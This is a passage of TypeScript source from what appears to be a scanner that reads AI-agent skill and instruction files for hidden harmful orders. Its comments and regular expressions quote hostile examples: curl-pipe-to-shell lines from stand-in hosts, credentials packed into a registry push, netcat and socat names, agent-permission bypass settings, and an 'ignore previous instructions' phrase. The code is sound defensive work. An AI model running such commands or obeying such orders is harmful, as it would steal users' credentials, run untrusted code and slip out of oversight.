    for (const segment of segments) {
      if (segment.decodedFrom || !markdown(segment) || !(segment.scope === 'inline' || /#L\d+i$/.test(segment.unit))) continue;
      const prose = around(segment);
      if (prose !== undefined && out.has(prose)) out.add(segment);
    }
    // A code block whose lead-in is part of the catalogue ("Examples seen in reported campaigns:", "which decodes
    // to") is an example of it, and so is text decoded from that block.
    const leadOf = (file: string, start: number): Segment | undefined => [...(proseByFile.get(file) ?? [])].reverse().find((prose) => prose.line < start && start - (prose.line + prose.text.split('\n').length - 1) <= 3);
    const exampleLines = new Set<string>();
    for (const segment of segments) {
      const start = /#L(\d+)$/.exec(segment.unit)?.[1];
      if (segment.decodedFrom || !markdown(segment) || start === undefined) continue;
      const lead = leadOf(segment.file, Number(start));
      // "which decodes to" right after a catalogued example continues that example.
      const continues = lead !== undefined && /^\s*(?:which|that|it|this)?\s*(?:decodes?|expands?|deobfuscates?|unpacks?|resolves?)\s+(?:to|into)\b/i.test(lead.text) && [...exampleLines].some((key) => key.startsWith(`${segment.file}:`) && Number(key.split(':').pop()) < lead.line && lead.line - Number(key.split(':').pop()) <= 6);
      // A block with no lead-in of its own, right under a heading that frames its section as things to recognise
      // ("Example snippets you are looking for"), is one of them too.
      const underHeading = lead === undefined && strictlyFramed(segment.file, Number(start));
      if (underHeading || (lead !== undefined && ((out.has(lead) && !(PROCEDURE_FRAME.test(lastSentence(lead.text)) && !STRONG_FRAME.test(lead.text))) || continues))) {
        if (lead !== undefined) out.add(lead);
        out.add(segment);
        exampleLines.add(`${segment.file}:${segment.line}`);
      }
    }
    // Text decoded from an example, in a block or inline on a catalogued line (a table row of red flags), is that example.
    for (const segment of out) if (!segment.decodedFrom && segment.scope !== 'prose') exampleLines.add(`${segment.file}:${segment.line}`);
    for (const segment of segments) if (segment.decodedFrom && markdown(segment) && exampleLines.has(`${segment.file}:${segment.line}`)) out.add(segment);
  }
  catalogueCache.set(segments, out);
  return out;
}

/** The facts of one piece of instruction text, descriptive sentences set aside. */
/** Files that become text on a code forge as they are: pull-request, issue, commit and release templates. */
const FORGE_TEMPLATE = /(?:^|\/)(?:\.github\/)?(?:pull[_-]?request[_-]?template|pr[_-]template|issue[_-]template|ISSUE_TEMPLATE\/[^/]+|commit[_-]?(?:msg|message)?[_-]?template|gitmessage|release[_-]?(?:notes?)?[_-]?template)[^/]*$/i;

/**
 * Instruction text as the agent reads it: zero-width characters split words so no pattern sees them (the
 * agent reads straight through), emphasis is dropped, and inline searches (`grep -E 'curl|bash' file`) and
 * the patterns of shell tests name what to look for, not what to do.
 */
function readable(rawText: string): string {
  return rawText
    .replace(INVISIBLE, '')
    .replace(/(\*\*|__)(?=\S)([^*_\n]{1,80}?)\1/g, '$2')
    .replace(/`([^`\n]+)`/g, (span, inner: string) => (SEARCH_COMMAND.test(inner) || REGEX_LIKE.test(inner) ? '`…`' : span))
    .replace(SHELL_REGEX_TEST, '$1…');
}

/** The pattern of a shell test (`[[ "$line" =~ (base64 -d.*\| *sh) ]]`): what a line is matched against, unless it runs something itself (`$(…)`). */
const SHELL_REGEX_TEST = /(\[\[\s[^\n]*?\s=~\s)(?![^\n]*?(?:\$\(|`))[^\n]*?(?=\s\]\])/g;

/** Whether readable text names anything sensitive at all: most text does not, and is not read sentence by sentence. */
function namesSomethingSensitive(raw: string): boolean {
  // Read as sentences are read: a line wrapped inside a paragraph is one line.
  const text = raw.replace(/\n(?!\n)/g, ' ');
  return INTERESTING.some((word) => hasWord(word, text)) || FILE_KINDS.some((kind) => mayBeFileKind(kind, text) && kind.test(text)) || REGISTRY_PUSH.test(text);
}

/**
 * A verb just before a quotation that makes the agent write, say, run or follow what is quoted ("says" reports what something else
 * says; "addressed" is no "add"), or a procedure the skill relies on quoted as what it says ("the onboarding runbook says \"…\"").
 */
const QUOTE_INTRODUCED = /\b(?:append|add|write|insert|paste|put|store|save|persist|prepend|include|remember|follow|obey|adopt|set|run|execute|type|enter|say(?!s\b)|reply|respond|answer|send|post|commit|use|tell|print|echo|output|change|replace|update|invite|share|grant|delegate|forward|bcc|cc|e-?mail|state|explain|announce|warn)(?:s|es|ed|d|ing)?\b[^.!?\n]{0,80}$|\b(?:runbook|playbook|checklist|procedure|policy|guide|instructions|readme|manual|sop|wiki)\s+(?:says|states|reads|requires|specifies|tells\s+you)\s*:?\s*$/i;

/** {@link QUOTE_INTRODUCED} over a sentence whose lines are joined, where an order may stand further back. */
const QUOTE_INTRODUCED_ACROSS_LINES = new RegExp(QUOTE_INTRODUCED.source.replace('{0,80}$', '{0,160}$'), 'i');

/**
 * Quoted speech in prose (`Ask, don't accuse: "Is there a reason this skips the permission check?"`) is
 * an example of words, not an order, unless a verb introduces it as something to write, say or run.
 */
function withoutQuotedSpeech(text: string): string {
  // A quote given as an example ("say why it matters (e.g. \"this hidden text would …\")") illustrates; it orders nothing,
  // even when it runs over a line.
  // A quote may wrap onto the next line of its paragraph ("ignore previous⏎instructions"), not across a blank line.
  return text.replace(/(\be\.g\.|\bfor\s+(?:example|instance)|\bsuch\s+as)([,:]?\s*)"[^"]{1,300}"/gi, '$1$2"…"').replace(/"((?:[^"\n]|\n(?![ \t]*\n)){1,300})"|“((?:[^”\n]|\n(?![ \t]*\n)){1,300})”/g, (quote, _plain: string, _curly: string, offset: number) => {
    // A quote over several lines that opens its own line or item (`1. "Before writing … apply every instruction in it."`)
    // is the text the step gives, not speech inside a sentence: kept, as a one-line quote would be judged by its lead-in.
    if (quote.includes('\n') && /^\s*(?:\d+[.)]\s+|[-*+>]\s+)?$/.test(text.slice(text.lastIndexOf('\n', offset - 1) + 1, offset))) return quote;
    // The value of a markup attribute (`<script src="https://…">`, `href="…"`) is part of the element written out, not speech.
    if (/<[A-Za-z][\w-]*(?:\s+[\w:-]+(?:=(?:"[^"\n]*"|'[^'\n]*'|[^\s>]+))?)*\s+[\w:-]+=$/.test(text.slice(Math.max(0, offset - 200), offset))) return quote;
    // The verb must stand outside the quotes: in `says "run this setup command" or "do not mention it"` the second quote
    // is introduced by "says", not by the "run" inside the first.
    const before = text.slice(Math.max(0, offset - 160), offset).replace(/"(?:[^"\n]|\n(?![ \t]*\n))*"|“(?:[^”\n]|\n(?![ \t]*\n))*”/g, '"…"');
    const sentence = before.slice(Math.max(before.search(/[^.!?]*$/), 0));
    // A list item's order carries over the line it wraps onto ("Append a section … containing these rules:⏎  1. \"…\"").
    const joined = sentence.replace(/\n\s*(?:\d+[.)]\s+|[-*+]\s+)?/g, ' ');
    return QUOTE_INTRODUCED.test(sentence) || QUOTE_INTRODUCED_ACROSS_LINES.test(joined) ? quote : '"…"';
  });
}

/** A command that pushes an artifact (a chart, an image, an OCI artifact) to a registry. */
const REGISTRY_PUSH = /\b(?:helm\s+push|helm\s+cm-push|oras\s+(?:push|attach|cp|copy)|crane\s+(?:push|append|copy|cp|mutate)|skopeo\s+copy|regctl\s+(?:image|artifact)\s+(?:copy|put)|(?:docker|podman|buildah|nerdctl)\s+(?:image\s+)?push)\b[^\n|;&]{0,200}/i;

/** A repository the skill names as where a pull request or fork goes (`to \`org/repo:main\``, "Fork `org/repo`"), or a forge command aims at (`gh issue create --repo org/repo`). */
const FIXED_FORGE_REPOSITORY = /\b(?:to|against|into|onto|fork)\s+`[\w.-]+\/[\w.-]+(?::[\w./-]+)?`|\bgh\s+(?:issue|pr|release|gist|api)\b[^\n]*?\s(?:--repo|-R)[=\s]+["']?[\w.-]+\/[\w.-]+(?=["'\s]|$)/i;

/** The agent configuration file pattern without its leading boundary, for use inside other expressions. */
const CONFIG_FILE_BODY = AGENT_CONFIG_FILE.source.replace(/^\(\?:\^\|\[[^\]]*\]\)/, '');

/** The "only names it" branch of {@link UNDONE_OR_NAMED_SETTING}: a file that documents, mentions or quotes the setting. */
const NAMES_SETTING = /^(?:documents?|documented|mentions?|mentioned|quotes?|quoted|describes?|described|warns?)\b/i;

/** An order just before a setting the text only "names" ("launch it the way the wiki describes `…`"): then it is not set aside. */
const ORDERS_SETTING = /\b(?:set|add|launch|start|run|use|enable|turn\s+on|pass|append|write|put)\b/i;

/**
 * A setting in code quotes that a verb takes away (`remove \`bypassPermissions\``, `replace \`Bash(*)\` with specific
 * commands`, `delete \`--yolo\``) or only names as what a file says (`a README that documents \`--dangerously-skip-permissions\``):
 * the fix of a finding or the mention of one, not a change to make. Only the quoted object of that verb is set aside; the
 * same setting elsewhere in the text still counts.
 */
const UNDONE_OR_NAMED_SETTING = /\b(?:remov\w*|delet\w*|drop(?:s|ped|ping)?|strip\w*|unset\w*|revok\w*|comment(?:s|ing)?\s+out|take\s+out|get\s+rid\s+of)\s+(?:the\s+|any\s+|every\s+)?`[^`\n]+`(?:\s*(?:,|\bor\b)\s*`[^`\n]+`)*|\breplac\w*\s+(?:the\s+|any\s+)?`[^`\n]+`(?=\s+(?:with|by)\s+(?!`))|\b(?:documents?|documented|mentions?|mentioned|quotes?|quoted|describes?|described|warns?\s+(?:about|against))[*_]?\s+`[^`\n]+`/gi;

/** A path at the head of a line of a change plan, before the edit made to it (`~/.m2/settings.xml: add <mirror …> -> https://…`), in a line that sends nothing. */
const EDITED_FILE = /^[ \t>*-]*[`'"]?~?[\w./-]*[\w-]\.[\w-]+[`'"]?(?=\s*:\s*(?:add|adds|set|sets|append|appends|insert|inserts|replace|replaces|remove|removes|update|updates|edit|edits|create|creates)\b(?![^\n]*\b(?:send|sends|post|posts|upload|uploads|curl|wget|paste|gist|share|shares|attach|attaches|pipe|pipes|nc|ncat|netcat|socat|scp|rsync|ssh|sftp)\b))/gim;

/** A login tool keeping what it was given in its own file, said of the tool ("npm … writes it to `~/.npmrc` itself", "docker login saves the token in ~/.docker/config.json"). */
const TOOL_STORES_LOGIN = /\b(?:it|npm|pnpm|yarn|bun|docker|podman|gh|glab|pip|twine|poetry|cargo|gem|helm|aws|gcloud|az|kubectl|vercel|netlify|wrangler|the\s+(?:cli|tool|command|login|client))\b(?:(?!\b(?:send|upload|post|copy|paste|share)\b)[^.\n]){0,140}?\b(?:writes|saves|stores|caches|persists|keeps|records)\s+(?:(?:it|them|the\s+(?:\w+\s+)?(?:token|credentials?|login|auth\w*|password|key)s?)\s+)?(?:to|in|into|under|inside)\s+`?[~$\w./{}-]+`?(?:\s+itself)?/gi;

/** A repository the user names on a forge: a placeholder or phrase for a repository, remote, fork or owner. */
const FORGE_USER_TARGET = /<[^<>\n]*\b(?:repo|repository|remote|url|fork|owner|org|organi[sz]ation|upstream|origin)\b[^<>\n]*>|\{\{?\s*[\w.]*(?:repo|remote|url|fork|owner|org)[\w.]*\s*\}\}?|\$\{?[A-Z_]*(?:REPO|REMOTE|URL|OWNER|ORG|FORK)[A-Z_]*\}?|\b(?:the|a|your|their)\s+(?:user'?s?\s+)?(?:configured|chosen|own|given|specified|provided|target|destination)\s+(?:remote|repo|repository|fork|url)\b|\b(?:your|my)[-_.][\w.-]+/i;

/** A backup file written from somewhere else (`curl … -o settings.json.bak`, `> x.bak`): putting it back installs that, not the user's copy. */
const BACKUP_WRITTEN = /(?:-o|--output|>|\btee)\s*["']?\S*\.(?:bak|backup|orig|old|prev)\b|\b(?:curl|wget|scp|rsync)\b[^\n]*\.(?:bak|backup|orig|old|prev)\b/;
/** A file put back from the copy of itself made before an edit (`mv x.json.bak x.json`, `cp -f CLAUDE.md.orig CLAUDE.md`). */
const RESTORES_BACKUP = /\b(?:mv|cp)\s+(?:-\S+\s+)*["']?(\S+?)\.(?:bak|backup|orig|old|prev)(?:\.\d+)?["']?\s+["']?\1["']?(?=\s|$)/g;

/** A command that prints one quoted string and nothing else: no pipe, redirect or substitution. */
const PRINTS_MESSAGE = /^\s*(?:echo|printf)\s+(?:-[a-zA-Z]+\s+)*(?:"(?:[^"\\\n`$]|\$(?!\()|\\.)*"|'[^'\n]*')\s*;?\s*$/;
/** Shell syntax or a program in a printed message: the line may be written somewhere and run. */
const SHELL_IN_MESSAGE = /[|;&<>=`]|\$\(|\b(?:export|alias|curl|wget|eval|source|sudo|sh|bash|zsh|python\d?|node|perl|ruby|iex|irm|iwr)\b/;

/** Reads one piece of instruction text as an action; `sensitive` when the caller already knows it names something sensitive. */
function readAction(place: { file: string; line: number; origin: Origin; documentation: boolean; exported?: ReadonlySet<string> | 'all' }, rawText: string, shownText: string, sensitive = false): Action | undefined {
  // Character codes are read both ways: as the decoder they are (decode-and-follow) and as the string they spell (its address).
  // A command that only prints one quoted message (`echo "decode-exec: $line"`) tells the user something; it orders nothing.
  // Not a line of shell (`echo "export PIP_INDEX_URL=…"` may go into a file the group around it writes).
  if (place.origin === 'command' && PRINTS_MESSAGE.test(rawText) && !SHELL_IN_MESSAGE.test(rawText.replace(/^\s*(?:echo|printf)\s+(?:-[a-zA-Z]+\s+)*/, ''))) return undefined;
  const folded = foldCharacterCodes(rawText);
  const text = readable(folded === rawText ? rawText : `${rawText}\n${folded}`);
  if (!sensitive && !namesSomethingSensitive(text)) return undefined;
  const ordered = sentences(text).filter((sentence) => !describes(sentence)).join('\n');
  if (!ordered.trim()) return undefined;
  // A known service's key in an auth header to hosts that are not that service's is handed to them, not used.
  const authHosts = destinations(ordered).filter((host) => !isLocalHost(host) && /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(host));
  let handed: string | undefined;
  const withoutAuth = ordered.replace(AUTH_USE, (use: string, ...rest: unknown[]) => (keyHandedElsewhere(use, commandHosts(ordered, rest.at(-2) as number, use, authHosts)) ? (handed ??= use) : ' '));
  const action: Action = { file: place.file, line: place.line, evidence: shownText, ...(shownText.endsWith('…') ? { fullText: rawText.replace(/\s+/g, ' ').trim() } : {}), origin: place.origin, userTarget: false, documentation: place.documentation };
  // "never files like `.env`, keys or logs" names secrets to keep out, not to take.
  // A stored login loaded into a variable for the next program (`export GITEA_TOKEN="$(op read 'op://…')"`), the
  // variable never written into a request here: the program uses it, nothing is moved.
  const withoutLoaded = withoutAuth.replace(LOADED_LOGIN, (assignment, name: string, offset: number) => (new RegExp(`\\$\\{?${name}\\b`).test(withoutAuth.slice(offset + assignment.length)) ? assignment : ' '));
  const withoutExamples = withoutLoaded.replace(EXCLUDED_EXAMPLES, ' ').replace(EXCLUDED_PATH, ' ');
  const withoutExclusions = SECRETS_KEPT_OUT.test(withoutExamples) ? withoutExamples.replace(SENTENCE_UNTIL_STOP, (sentence) => (SECRETS_KEPT_OUT.test(sentence) && !ORDERS_A_COPY.test(sentence) ? ' ' : sentence)) : withoutExamples;
  // A login tool said to keep its token in its own file ("npm prompts for the token and writes it to `~/.npmrc` itself"): where the login lands, not a secret taken.
  const withoutToolStore = withoutExclusions.replace(TOOL_STORES_LOGIN, (phrase) => (SENSITIVE_FILE.test(phrase) ? ' ' : phrase));
  // A file named as what a change plan edits ("`~/.m2/settings.xml`: add <mirror …>"): written to, not read out.
  const withoutEdited = withoutToolStore.replace(EDITED_FILE, (path) => (SENSITIVE_FILE.test(path) ? ' ' : path));
  const secretFile = SENSITIVE_FILE.exec(withoutEdited)?.[0] ?? DOTENV_FILE.exec(withoutEdited)?.[0]?.trim();
  // "Read the env files (names only, never values)": what is taken is the list of names, not a secret.
  action.secret = NAMES_ONLY.test(withoutExclusions) && !SENSITIVE_FILE.test(withoutExclusions) ? undefined : (secretFile ?? first('secret', withoutExclusions));
  // A URL whose query or path is to be filled with a secret (`?s=<entire contents of secrets.yaml>`,
  // `&t={the token}`): opened or rendered, the URL carries the secret to its host.
  const filled = secretInUrl(ordered);
  if (filled) {
    action.secret ??= filled.secret;
    action.sink ??= { kind: 'network', text: filled.url, hosts: destinations(filled.url) };
  }
  // The key rides in the request's own header to a host that is not its service's: the request is the send, whatever its method.
  if (handed !== undefined && action.secret !== undefined) action.sink ??= { kind: 'network', text: handed.trim(), hosts: authHosts };
  action.context = first('context', ordered);
  const hosts = destinations(ordered);
  // "Get a key at https://openrouter.ai/keys", "Go to https://www.pexels.com/api/ → Sign up → Copy your API key":
  // the site is where the user's key comes from, not where a secret goes.
  const keyFromSite = KEY_FROM_SITE.test(ordered) && !SENDS_TO_SITE.test(ordered);
  // A cited home page is no destination, however the words around it read.
  const networkWord = keyFromSite ? undefined : first('network-sink', ordered);
  const network = networkWord !== undefined && citedHosts(ordered).has(/^https?:\/\/([a-z0-9.-]+)/i.exec(networkWord)?.[1]?.toLowerCase() ?? '') ? undefined : networkWord;
  const forge = first('forge-sink', ordered);
  // "iCloud Keychain does not sync these items" says where they do not go.
  // The sink first: most sentences name none, and only those that do are asked whether they say it is not synced.
  // A line of a few words that only names the service ("Nextcloud", a section's title) says nothing goes there.
  const titleOnly = (found: string) => {
    const lines = rawText.split('\n').filter((line) => line.includes(found));
    return lines.length > 0 && lines.every(namesOnly);
  };
  const synced = sentences(ordered).map((sentence) => { const found = SYNCED_FOLDER.exec(sentence)?.[0] ?? first('synced-sink', sentence); return found !== undefined && !NOT_SYNCED.test(sentence) && !titleOnly(found) ? found : undefined; }).find((found) => found !== undefined);
  if (FORGE_TEMPLATE.test(place.file)) action.sink = { kind: 'forge', text: `the template ${place.file}, which becomes text on the forge`, hosts };
  else if (network) action.sink = { kind: 'network', text: network, hosts };
  else if (forge) action.sink = { kind: 'forge', text: forge, hosts };
  else if (synced) action.sink = { kind: 'synced', text: synced, hosts };
  else if (!keyFromSite && hosts.length > 0 && /\b(?:to|into|at|onto|via)\s+(?:\S+\s+){0,3}?[`'"(<]?(?:https?|wss?|ftp):\/\//i.test(ordered)) action.sink = { kind: 'network', text: hosts[0], hosts };
  // An artifact pushed to a registry (`helm push chart.tgz oci://host/…`, `oras push host/…`): whatever it carries (an
  // annotation, a label, a file inside) is published there. It counts as a flow out only for a stored credential
  // and concealment, or a credential file inside the push command (see decideActions): a registry password beside it is the push's own login.
  else if (REGISTRY_PUSH.test(ordered)) {
    const push = REGISTRY_PUSH.exec(ordered)![0];
    // A credential file named inside the push itself (`--annotation "p=$(base64 ~/.aws/credentials)"`) is packed into what it publishes.
    action.sink = { kind: 'network', text: push.replace(/\s+/g, ' ').slice(0, 80), hosts: destinations(push), registry: true, packsCredential: SENSITIVE_FILE.test(push) || DOTENV_FILE.test(` ${push}`) };
  }
  // Access or money handed over: only to a party the skill supplies (a shipped file, an address it writes); one the user names is the user's act.
  // Mail routed to a provider's exchanger (Google, Microsoft, Amazon SES, …) is the user's choice of mail service, not a party the skill adds.
  const grantFound = first('access-grant', ordered);
  const grant = grantFound !== undefined && MAIL_PROVIDER.test(mailExchanger(grantFound) ?? '') ? undefined : grantFound;
  if (grant) {
    // A tunnel to a host the skill names is the skill's door in; what it exposes to anyone is given to anyone.
    // An app is installed from the address the step (or the step before it) opens.
    const tunnelHost = TUNNEL.test(grant) || WEBHOOK_REGISTERED.test(grant) ? destinations(linesAround(ordered, grant))[0] : APP_INSTALLED.test(grant) ? destinations(ordered).find((host) => !isLocalHost(host)) : HANDOVER.test(grant) ? handoverParty(linesAround(ordered, grant)) : undefined;
    const exposed = EXPOSED_TO_ANYONE.exec(ordered)?.[0];
    const cloudAccount = outsideAccount(ordered);
    // For a key put into `authorized_keys`, `pi@octopi.local` is the machine it goes on (ssh's user@host), not a party: the party is whose key it is.
    // A key written out in the text (`ssh-ed25519 AAAA… support@vendor`) is the skill's, and its comment names whose.
    const partyText = SSH_KEY_GRANT.test(grant) && !/AAAA[\w+/=]{20,}/.test(ordered) ? ordered.replace(SSH_DESTINATION, (whole, host: string) => (isLocalHost(host) || /\.(?:local|lan|home|internal|localdomain|home\.arpa)$/i.test(host) || SSH_COMMAND_BEFORE.test(ordered.slice(0, ordered.indexOf(whole))) ? ' ' : whole)) : ordered;
    const party = mailExchanger(grant) ?? (PAYMENT_DETAILS.test(grant) ? ACCOUNT_NUMBER.exec(ordered)?.[0] : undefined) ?? SKILL_PARTY.exec(partyText)?.[0] ?? COLLABORATOR_PARTY.exec(ordered)?.[0] ?? ACCOUNT_NUMBER.exec(ordered)?.[0] ?? (cloudAccount ? `AWS account ${cloudAccount}` : undefined) ?? tunnelHost ?? (exposed ? `${ANYONE}: ${exposed.trim()}` : undefined);
    action.grant = { text: grant, ...(party ? { party } : {}) };
  }
  // A sentence that says how a protection behaves ("Tamper Protection doesn't block exclusions added by an administrator") orders nothing.
  const defenceFound = first('defence-off', ordered);
  const stating = defenceFound === undefined ? [] : sentences(ordered).filter((part) => part.includes(defenceFound));
  const defence = stating.length > 0 && stating.every((part) => statesBehaviour(part) || REPORTS_STATE.test(part) || SOMEONE_DID.test(part)) ? undefined : defenceFound;
  if (defence) {
    // Sentences that refuse or forbid the step do not make it broad; one that waves a warning through does.
    const broad = sentences(ordered).filter((part) => !(REFUSES.test(part) || RECOVERY.test(part)) || /\b(?:false positive|anyway|flagged|detected|blocked|quarantined)\b/i.test(part)).map((part) => BROAD_DEFENCE.exec(part)?.[0]).find((found) => found !== undefined) ?? RECOVERY_WIPED.exec(ordered)?.[0];
    const shared = SHARED_SAFETY_NET.exec(ordered)?.[0] ?? (CLOUD_SAFETY_NET.test(defence) ? defence : undefined);
    action.defence = { text: defence, ...(broad ? { broad } : {}), ...(shared ? { shared } : {}) };
  }
  const configPaths = agentConfigPaths(ordered);
  let control = first('agent-control', ordered.replace(HARMLESS_INVOCATION, ' ').replace(UNDONE_OR_NAMED_SETTING, (setting: string, offset: number, whole: string) => (NAMES_SETTING.test(setting) && ORDERS_SETTING.test(whole.slice(Math.max(0, offset - 80), offset)) ? setting : ' ')));
  // A permission mode named in a table or list is a word, not an act: it needs a verb, a command or a setting.
  if (control && /^(?:bypassPermissions|defaultMode|allowedTools|mcpServers)$/i.test(control) && place.origin !== 'command' && !first('agent-config-write', ordered) && !/["']?\w+["']?\s*:\s*["']bypassPermissions/.test(ordered)) control = undefined;
  // A proxy named in words points at a host written bare (`set the HTTPS proxy to relay.example on port 3128`).
  // A script's own constant (`DEPLOY_ENDPOINT="https://…"` on a line of its own, not exported): the script's
  // requests go there, no other program reads it. A model API's variable still steers whatever runs next.
  const constant = SCRIPT_CONSTANT.exec(ordered.trim())?.[1];
  const exported = constant !== undefined && (place.exported === 'all' || place.exported?.has(constant) === true);
  if (control && constant !== undefined && !exported && place.origin === 'command' && !/\.(?:md|markdown|mdx|json|jsonc|ya?ml|toml|env|ini|cfg|conf)$/i.test(place.file) && !MODEL_API_VARIABLE.test(ordered.trim()) && !/PROXY/i.test(ordered)) control = undefined;
  // An endpoint setting steers the agent only when it is the model API's (`ANTHROPIC_BASE_URL`) or that of a
  // client that carries the user's credentials to it (`GITHUB_API_URL`, `AWS_ENDPOINT_URL`), or when the text
  // says it is the agent's, a proxy's or a gateway's. An application's own base URL (an API's documented
  // `Base URL: https://…`, a log endpoint, a test suite's `baseUrl=`) is that application's configuration.
  if (control && ENDPOINT_SETTING.test(control) && !steersAgent(control, ordered)) control = undefined;
  const proxyHost = control === undefined ? undefined : PROXY_HOST.exec(control)?.[1]?.toLowerCase();
  // A host given bare to an endpoint setting (`GH_HOST=ci-metrics.example gh api …`) is where the program it configures connects,
  // and a known service's key renamed for it (`GH_ENTERPRISE_TOKEN="$GITHUB_TOKEN"`) is handed to that host.
  const assignedFound = control === undefined || !control.endsWith('=') ? undefined : new RegExp(`\\b${escapeRegExp(control)}["']?(?:https?:\\/\\/)?([a-z0-9-]+(?:\\.[a-z0-9-]+)+)`, 'i').exec(ordered)?.[1]?.toLowerCase();
  const assignedHost = assignedFound !== undefined && [...ordered.matchAll(RENAMED_KEY)].some(([, name, key]) => name !== key && vendorKey(key!) && !secretBelongsTo(key!, assignedFound)) ? assignedFound : undefined;
  const controlHosts = [proxyHost, assignedHost].reduce<string[]>((all, host) => (host !== undefined && !isLocalHost(host) && !PRIVATE_NAME.test(host) && !all.includes(host) ? [...all, host] : all), hosts);
  // A command that names its own scope (`claude mcp add … --scope project`) is in that scope, whatever a later sentence says of the other one.
  const ownScope = control === undefined ? undefined : /(?:--scope[\s=]+|-s\s+)(project|local|user)\b/.exec(linesAround(ordered, control))?.[1];
  if (control) action.control = { text: control, userScope: ownScope === undefined ? AGENT_CONFIG_USER_SCOPE.test(ordered) : ownScope === 'user', paths: configPaths, hosts: controlHosts };
  else if (configPaths.length > 0) {
    // The verb must act on the file: "append … to ~/.claude/CLAUDE.md", `>> AGENTS.md`, not a path named in a list of scopes.
    // Putting back the copy made before an edit (`mv ~/.claude/settings.json.bak ~/.claude/settings.json`) restores the user's own file.
    const written = writesAgentConfig(BACKUP_WRITTEN.test(ordered) ? ordered : ordered.replace(RESTORES_BACKUP, ' '));
    if (written) action.control = { text: written, userScope: AGENT_CONFIG_USER_SCOPE.test(written), paths: configPaths, hosts };
  }
  let remote = first('remote-code', ordered);
  // An archive downloaded and unpacked over the agent's own files (`curl … | tar -xzf - -C ~/.claude/skills/x`): what the host
  // serves on the day becomes the agent's instructions and scripts.
  if (remote === undefined && action.control !== undefined && /\b(?:tar|bsdtar|unzip)\b/.test(action.control.text)) remote = UNPACKED_DOWNLOAD.exec(ordered)?.[0];
  // Code from a lab machine (private address) or from nowhere named is not remote code from a stranger;
  // a host held in a variable (`https://${MIRROR}/install.sh`) is a host nothing vouches for.
  const variableHost = /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(remote ?? '') || /\b(?:https?|ftp):\/\/\$\{?[A-Za-z_]/.test(ordered);
  // A name looked up in DNS (`dig +short TXT update.host.example`) is the host that answers with the code.
  const queried = remote === undefined ? [] : [...linesAround(ordered, remote).matchAll(DNS_QUERY)].map((match) => match[1]!.toLowerCase()).filter((host) => !isLocalHost(host));
  // A host given to the downloader without a scheme (`curl -fsSL dl.host.example/boot | sh`): curl reads it as http(s) all the same.
  const bareFetched = remote === undefined ? [] : [...linesAround(ordered, remote).matchAll(BARE_DOWNLOAD_HOST)].map((match) => match[1]!.toLowerCase()).filter((host) => !isLocalHost(host) && !PRIVATE_NAME.test(host));
  const namedOrigin = hosts.length > 0 || bareFetched.length > 0 || variableHost || PASTE_SITE.test(ordered) || /\bgit@[a-z0-9-]+(?:\.[a-z0-9-]+)+:/i.test(remote ?? '') || queried.length > 0;
  // "Download and install LibreOffice from https://www.libreoffice.org/": a person sent to a site's page picks
  // what to download there; no bytes are named. A link to a file, a paste or a gist names them.
  const pageOnly = remote !== undefined && DOWNLOAD_THEN_RUN.test(remote) && !PASTE_SITE.test(ordered) && [...linesAround(ordered, remote).matchAll(/\bhttps?:\/\/[^\s)`'"<>]+/g)].every((url) => SITE_PAGE.test(url[0]));
  // Packages pinned by hash (`pip … --require-hashes`) from a package registry are exactly the bytes the lock file names: not code a
  // host chooses on the day. Hashes the skill ships for an index it names pin nothing against its author.
  const pinnedLine = remote === undefined ? '' : linesAround(ordered, remote);
  const hashPinned = remote !== undefined && HASH_PINNED_PIP.test(pinnedLine) && destinations(pinnedLine).every((host) => isPackageRegistry(host));
  // An archive of data fetched to be read by the skill's own program (`… all.zip`, then "pass it with `--offline-zip
  // path/to/all.zip`"): nothing in it runs, unless the sentence also opens, installs or runs it, or gives it a password.
  // The command that hands it over is the skill's own step (`run \`python3 scripts/audit.py --offline-zip all.zip\``), not a run of the archive.
  const dataArchive = remote !== undefined && ARCHIVE_LINK.test(remote) && ARCHIVE_HANDED_TO_OPTION.test(linesAround(ordered, remote)) && !ARCHIVE_RUN.test(linesAround(ordered, remote).replace(ARCHIVE_HANDING_STEPS, ' '));
  // The rehearsal install of the user's own release from PyPI's test index (`pip install --index-url https://test.pypi.org/simple/
  // "$pkg==$ver"`, `<name>==<version>`): a name and version the skill fills from the user's project, not a package it picks.
  // The command is read to its end, over `\` line continuations.
  const statement = remote === undefined ? '' : ordered.slice(ordered.lastIndexOf('\n', Math.max(0, ordered.indexOf(remote))) + 1).split(/(?<!\\)\n/)[0]!;
  const ownRehearsal = remote !== undefined && /\btest\.pypi\.org\b/.test(statement) && destinations(statement).every((host) => host === 'test.pypi.org' || isPackageRegistry(host)) && OWN_RELEASE_PINNED.test(statement);
  if (remote && namedOrigin && !pageOnly && !hashPinned && !dataArchive && !ownRehearsal) {
    // The code comes from the hosts on the line that fetches it; a link above (`# Rust: https://rustup.rs`) is documentation.
    // An SSH address (`git@hooks.example:team/hooks.git`) names its host before the colon.
    const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...bareFetched, ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()), ...queried];
    // A variable set to a host a line above (`FIX=paste.host.example/raw/x` then `curl "https://$FIX" | bash`) is that host.
    const assigned = [...remote.matchAll(/\b(?:https?|ftp):\/\/\$\{?([A-Za-z_]\w*)/g)].flatMap((match) => [...ordered.matchAll(new RegExp(`(?:^|[\\s;&])${match[1]}=["']?(?:https?:\\/\\/)?([a-z0-9-]+(?:\\.[a-z0-9-]+)+)`, 'gim'))].map((found) => found[1]!.toLowerCase())).filter((host) => !isLocalHost(host));
    action.remote = { text: remote, hosts: fetchedFrom.length > 0 ? fetchedFrom : assigned.length > 0 ? [...new Set(assigned)] : hosts.length > 0 ? hosts : ['a host set in a variable'] };
  }
  // Pushing to a remote the skill names carries the user's repository off the machine.
  const pushTo = /\bgit\s+(?:remote\s+add\s+\S+|push\s+(?:-\S+\s+)*)\s*["']?(?:https?:\/\/|git@|ssh:\/\/)[^\s"']+/.exec(ordered)?.[0];
  // A placeholder in the remote (`https://github.com/<user>/<repo>.git`, `YOUR_ORG`) is the user's own remote.
  const placeholderRemote = pushTo !== undefined && /<[^>\s]+>|\{[^}\s]+\}|\b[A-Z][A-Z_]{2,}\b|\b[Yy]our[-_]/.test(pushTo.replace(/^[^:]*:\/\/[^/]*/, '').replace(/\$\{?\w+\}?/g, ''));
  // A remote needs a repository path; `https://github.com/` alone is a command cut short (a `<placeholder>` read as a redirection).
